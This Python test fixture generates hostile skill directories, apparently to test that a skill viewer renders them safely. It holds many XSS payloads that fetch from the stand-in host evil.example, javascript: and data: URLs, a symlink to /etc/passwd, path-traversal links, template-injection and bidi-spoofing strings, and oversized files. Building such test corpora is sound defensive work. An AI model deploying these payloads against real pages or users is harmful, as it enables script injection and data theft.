"""Skills whose every text tries to act in a browser, and whose files are too many or too long."""

from __future__ import annotations

import os
from pathlib import Path

MARK = "pwned"
"""A variable of the window that each attack sets."""
FOREIGN = "evil.example"
"""The host that each attack asks."""
MANY_FILES = 20_000
LONG_LINE = 10_000_000

ACT = f"window.{MARK}=1;fetch('http://{FOREIGN}/')"
MARKUP = (
    f'<script>{ACT}</script><img src="http://{FOREIGN}/i.png" onerror="{ACT}">'
    f'<svg onload="{ACT}"><script>{ACT}</script></svg>'
    f'<iframe src="javascript:{ACT}"></iframe><details open ontoggle="{ACT}"><summary>x</summary>'
    f'<style>@import "http://{FOREIGN}/s.css";</style><base href="http://{FOREIGN}/">'
    f'<meta http-equiv="refresh" content="0;url=http://{FOREIGN}/"><form action="http://{FOREIGN}">'
    f'<button autofocus onfocus="{ACT}">b</button></form><math><mtext><script>{ACT}</script>'
)
BODY = f"""# Heading {MARKUP}

{MARKUP}

[link](javascript:{ACT}) [data](data:text/html,<script>{ACT}</script>) <javascript:{ACT}>
![image](http://{FOREIGN}/image.png "onerror={ACT}") ![data](data:image/svg+xml,<svg/onload={ACT}>)
[out](http://{FOREIGN}/out?"onmouseover="{ACT}) [file](file:///etc/passwd) [up](../../../secret)
[ref] [proto](//{FOREIGN}/x) [vb](vbscript:x) [entity](&#106;avascript:{ACT}) [tab](java\tscript:x)

[ref]: http://{FOREIGN}/ref '"><script>{ACT}</script>'

`{MARKUP}`

```html"><script>{ACT}</script>
{MARKUP}
```

| <script>{ACT}</script> | b |
|---|---|
| \x1b[31mred\x1b[0m \x1b]8;;http://{FOREIGN}\x07x | \u202egnp.exe\u202c \u200bz\U000e0041 |

<!-- {MARKUP} -->

* [x](<{MARKUP}>)
"""
TEXT = f'"><script>{ACT}</script><img src=x onerror="{ACT}">\'{{{{7*7}}}}'


def write_hostile(root: Path, *, is_large: bool) -> list[Path]:
    """Write the corpus below a directory of skills, and return the skills' directories."""
    marked = _skill(root / "marked", f"name: marked\ndescription: |\n  {TEXT}\n")
    fields = (
        f"name: fields\ndescription: x\nlicense: |\n  {TEXT}\n'{TEXT.replace(chr(39), '')}': y\n"
    )
    _skill(root / "fields", fields)
    named = root / "<img src=x onerror=window.pwned=1>"
    _skill(named, f"name: '<svg onload={ACT.replace(chr(39), '')}>'\ndescription: x\n")
    broken = root / "broken<script>"
    broken.mkdir(parents=True)
    (broken / "SKILL.md").write_text(f"---\nname: '{TEXT}\n---\n", encoding="utf-8")
    files = marked / "references"
    files.mkdir()
    (files / "page.html").write_text(MARKUP)
    (files / "image.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{ACT}</script></svg>'
    )
    (files / "notes.md").write_text(BODY, encoding="utf-8")
    (files / "bytes.bin").write_bytes(b"\xff\xfe<script>")
    (files / '"><script>alert(1)<').mkdir()
    (files / '"><script>alert(1)<' / "x'y.md").write_text(BODY, encoding="utf-8")
    (files / "link").symlink_to("/etc/passwd")
    found = [marked, root / "fields", named, broken]
    if is_large:
        large = _skill(root / "large", "name: large\ndescription: x\n")
        (large / "line.txt").write_text("a" * LONG_LINE)
        many = large / "many"
        many.mkdir()
        for number in range(MANY_FILES):
            os.mknod(f"{many}/{number}.txt")
        long = root / "long"
        long.mkdir()
        (long / "SKILL.md").write_text("---\nname: long\ndescription: x\n---\n" + "[" * LONG_LINE)
        found += [large, long]
    return found


def _skill(directory: Path, frontmatter: str) -> Path:
    directory.mkdir(parents=True)
    text = f"---\n{frontmatter}---\n{BODY}"
    (directory / "SKILL.md").write_text(text, encoding="utf-8")
    return directory
